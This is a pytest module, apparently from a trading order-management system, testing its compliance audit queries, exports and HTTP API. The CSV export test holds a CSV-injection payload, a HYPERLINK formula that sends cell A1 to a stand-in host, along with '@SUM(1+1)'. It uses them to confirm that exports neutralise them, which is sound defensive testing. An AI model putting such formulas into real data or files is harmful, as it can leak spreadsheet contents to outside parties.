"""Third review of the compliance read side (lifecycle, exports, the HTTP compliance API): each
test shows a defect a compliance officer would have hit, on data written by a real engine
(helpers of test_audit_queries / test_audit_review)."""
from __future__ import annotations

import csv
import io

import pytest

from oms_trading.audit import queries as Q

from .test_audit_queries import MIN, S1, S2, T0, _new
from .test_audit_review import _open, _run


@pytest.fixture(scope="module")
def reused(tmp_path_factory):
    """S1's order A is accepted; S2 sends its own NewOrderSingle with ClOrdID A, rejected on
    receipt (price collar), so its rows carry no order_id."""
    data = tmp_path_factory.mktemp("reused")
    _run(data, [
        _new("A", "1", 100, "185.00", ts=T0),
        _new("A", "1", 100, "1.00", session=S2, account="ACC2", ts=T0 + MIN),
    ])
    proj, con = _open(data)
    yield con
    con.close()
    proj.close()


def test_lifecycle_of_a_cl_ord_id_another_session_used_for_a_rejected_order_is_not_merged(reused):
    """A ClOrdID is unique per session only. Without --session, S2's rejected order A (no
    order_id) was shown inside S1's order 1 as if that order had been received again and
    rejected by the price collar."""
    con = reused
    with pytest.raises(Q.QueryError, match="session"):
        Q.lifecycle(con, cl_ord_id="A")
    assert [(r["type"], r["session"]) for r in Q.lifecycle(con, cl_ord_id="A", session=S1)] == [
        ("order_received", S1), ("order_accepted", S1)]
    assert [(r["type"], r["session"]) for r in Q.lifecycle(con, cl_ord_id="A", session=S2)] == [
        ("order_received", S2), ("order_rejected", S2)]


def test_csv_export_neutralizes_formulas_from_clients(tmp_path):
    """`oms audit export --format csv` (and /api/audit/export) wrote a client's ClOrdID or
    Account as sent: a spreadsheet opening the file runs =HYPERLINK(...) (CSV injection, which
    the EOD report's CSV already guards against). Numbers such as a price -5 stay numbers."""
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    _run(tmp_path, [
        _new(evil, "1", 10, "185.00", ts=T0),                                    # accepted, rests
        _new("+R-1", "1", 10, "185.00", account="@SUM(1+1)", ts=T0 + MIN),       # unknown account
        _new("R-3", "1", 10, "-5", ts=T0 + 2 * MIN),                             # negative: a number
    ])
    proj, con = _open(tmp_path)
    try:
        buf = io.BytesIO()
        n = Q.export(con, "csv", buf)
        raw = io.BytesIO()
        Q.export(con, "parquet", raw)
    finally:
        con.close()
        proj.close()
    rows = list(csv.DictReader(io.StringIO(buf.getvalue().decode())))
    assert len(rows) == n
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-5")]
    assert "'" + evil in cells and "'@SUM(1+1)" in cells and "'+R-1" in cells and "-5" in cells
    import pyarrow.parquet as pq
    assert evil in pq.read_table(io.BytesIO(raw.getvalue())).column("cl_ord_id").to_pylist()  # exact there


async def test_http_from_to_and_at_keep_the_nanoseconds_of_an_audit_time(tmp_path_factory):
    """/api/audit/search, export and limits read from/to/at with datetime.fromisoformat, which
    keeps 6 fraction digits: the 9-digit ``time`` the API itself returns, pasted back, moved
    up to 999 ns earlier. ``from`` = an event's time then also returned the event before it
    in that microsecond, ``to`` left out the events of that microsecond before it, and the
    limits ``at`` the exact time of a change showed the value before the change."""
    import time

    from oms_trading.audit import schema as ev

    from .test_audit_queries import _limit
    from .test_http_api import serve_demo

    servers = serve_demo(tmp_path_factory, "nsapi")
    api = await servers.__anext__()
    try:
        gw = api.server.gateway
        t = (time.time_ns() // 1000 + 1000) * 1000        # a microsecond boundary, after the start
        for cl, ts in (("NS-1", t + 100), ("NS-2", t + 789)):
            gw.submit({"type": ev.ORDER_RECEIVED, "ts": ts, "session": S1, "cl_ord_id": cl, "account": "ACC1",
                       "symbol": "AAPL", "side": "1", "ord_type": "2", "tif": "1", "price": "185.00", "qty": 5})
            gw.end_batch()
        gw.submit(_limit("account:ACC1", "max_order_qty", "321", t + 2000 + 456))
        gw.end_batch()

        async def search(**q):
            path = "/api/audit/search?account=ACC1&" + "&".join(f"{k}={v}" for k, v in q.items())
            status, out, _ = await api.call("GET", path, user="compliance1")
            assert status == 200, out
            return [r["cl_ord_id"] for r in out["rows"] if r["type"] == "order_received"]
        at = Q.iso_ns(t + 789)
        assert at[-4:] == "789Z"                       # 9 digits: ns below the microsecond
        assert await search(**{"from": at}) == ["NS-2"]
        assert await search(**{"from": Q.iso_ns(t), "to": at}) == ["NS-1"]
        status, out, _ = await api.call("GET", f"/api/audit/limits?account=ACC1&at={Q.iso_ns(t + 2456)}",
                                        user="compliance1")
        assert status == 200, out
        row = [r for r in out["limits"] if r["limit"] == "max_order_qty"][0]
        assert (row["value"], row["set_at_time"]) == ("321", Q.iso_ns(t + 2456)) and out["at"] == t + 2456
        status, out, _ = await api.call("GET", f"/api/audit/limits?account=ACC1&at={Q.iso_ns(t + 2455)}",
                                        user="compliance1")
        assert [r["value"] for r in out["limits"] if r["limit"] == "max_order_qty"] != ["321"]
    finally:
        with pytest.raises(StopAsyncIteration):
            await servers.__anext__()          # closes the client and stops the server


def test_eod_blotter_leaves_out_orders_that_ended_on_an_earlier_day(tmp_path):
    """Day 1: B-1 and S-1 trade in full. Day 2: the client sends a cancel of B-1 naming its
    OrderID (37), and another session a cancel naming it too; both are rejected (unknown
    order) and nothing trades. The day-2 blotter listed B-1 as one of the day's orders
    ("filled", last event the day before), because the command rows carry the OrderID the
    client wrote, and the blotter took any row of the day with an order_id."""
    from .test_audit_queries import _cancel
    from .test_audit_review import DAY_NS, _clock_eod
    _run(tmp_path, [
        _new("S-1", "2", 100, "190.00", session=S2, account="ACC2", ts=T0),
        _new("B-1", "1", 100, "190.00", ts=T0 + MIN),                                    # both filled
        _clock_eod(T0 + 7 * 3600 * 10**9),
        dict(_cancel("X-1", "B-1", ts=T0 + DAY_NS), order_id=2),
        dict(_cancel("X-2", "NOPE", session=S2, ts=T0 + DAY_NS + MIN), order_id=2),
        _new("B-2", "1", 10, "185.00", ts=T0 + DAY_NS + 2 * MIN),                        # the day's order
    ])
    proj, con = _open(tmp_path)
    try:
        day1 = Q.eod_data(con, date="2026-11-25")
        day2 = Q.eod_data(con, date="2026-11-26")
        html = Q.eod_report(con, date="2026-11-26", fmt="html")
    finally:
        con.close()
        proj.close()
    assert sorted(o["cl_ord_id"] for o in day1["blotter"]) == ["B-1", "S-1"]
    assert [(o["cl_ord_id"], o["ended"]) for o in day2["blotter"]] == [("B-2", "open")]
    assert day2["fills"] == [] and "filled" not in html.split("<h2>Blotter</h2>")[1].split("<h2>")[0]


def test_search_by_account_or_symbol_finds_the_risk_desks_actions_on_it(tmp_path):
    """`oms audit query --account ACC1` listed B-3's reject for max_order_notional but not the
    limit change that lowered it on account:ACC1 minutes before (who, why, old and new value);
    `--account ACC2 --event kill_switch` found nothing although ACC2's kill switch was engaged
    and released; `--symbol AAPL` left out AAPL's halt. Those rows name the account or symbol
    only in ``scope``, and the filters looked at the account / symbol columns alone."""
    from oms_trading.audit import schema as ev

    from .test_audit_queries import _kill, _limit
    _run(tmp_path, [
        _limit("account:ACC1", "max_order_notional", "10000", T0),
        _new("B-3", "1", 100, "190.00", ts=T0 + MIN),                                     # rejected
        _kill("account:ACC2", "engage", T0 + 2 * MIN),
        _kill("account:ACC2", "release", T0 + 3 * MIN),
        _limit("instrument:AAPL", "halted", "true", T0 + 4 * MIN),
        _limit("account:ACC1/instrument:TSLA", "restricted", "true", T0 + 5 * MIN),
        _limit("account:ACC10", "max_order_qty", "5", T0 + 6 * MIN),                      # another account
        _limit("default", "max_order_qty", "50000", T0 + 7 * MIN),                        # nobody's own
    ])
    proj, con = _open(tmp_path)
    try:
        acc1 = Q.search(con, account="ACC1", event="limit_changed,order_rejected")
        acc2 = Q.search(con, account="ACC2", event="kill_switch")
        aapl = Q.search(con, symbol="AAPL", event="limits")
        tsla = Q.search(con, symbol="TSLA", event="limits")
        both = Q.search(con, account="ACC1", symbol="TSLA", event="limit_changed")
    finally:
        con.close()
        proj.close()
    assert [(r["type"], r["scope"], r["cl_ord_id"]) for r in acc1] == [
        (ev.LIMIT_CHANGED, "account:ACC1", None), (ev.ORDER_REJECTED, None, "B-3"),
        (ev.LIMIT_CHANGED, "account:ACC1/instrument:TSLA", None)]
    assert acc1[0]["new_value"] == "10000" and acc1[0]["user"] == "risk1"
    assert [r["type"] for r in acc2] == [ev.KILL_SWITCH_REQUESTED, ev.KILL_SWITCH_ENGAGED,
                                         ev.KILL_SWITCH_REQUESTED, ev.KILL_SWITCH_RELEASED]
    assert [(r["type"], r["scope"]) for r in aapl] == [(ev.LIMIT_CHANGE_REQUESTED, "instrument:AAPL"),
                                                       (ev.LIMIT_CHANGED, "instrument:AAPL")]
    assert [r["scope"] for r in tsla] == ["account:ACC1/instrument:TSLA"] * 2
    assert [r["scope"] for r in both] == ["account:ACC1/instrument:TSLA"]
